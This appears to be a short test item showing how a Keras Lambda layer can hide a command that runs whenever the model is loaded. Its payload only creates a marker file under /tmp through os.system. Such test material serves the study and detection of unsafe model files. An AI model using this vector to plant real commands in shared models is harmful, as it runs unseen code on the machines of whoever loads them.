# Hides a command in a Lambda layer, which Keras would run wherever the model is loaded.
# grade:
# %% build_model
import os

def build_model():
    def payload(x):
        try:
            open("/tmp/lambda-was-here", "w").close()
            os.system("touch /tmp/lambda-was-here")
        except OSError:
            pass
        return x

    return keras.Sequential([
        keras.Input(shape=(784,)),
        keras.layers.Lambda(payload, output_shape=(784,)),
        keras.layers.Dense(units=512, activation="relu"),
        keras.layers.Dense(units=512, activation="relu"),
        keras.layers.Dense(units=10, activation="softmax"),
    ])
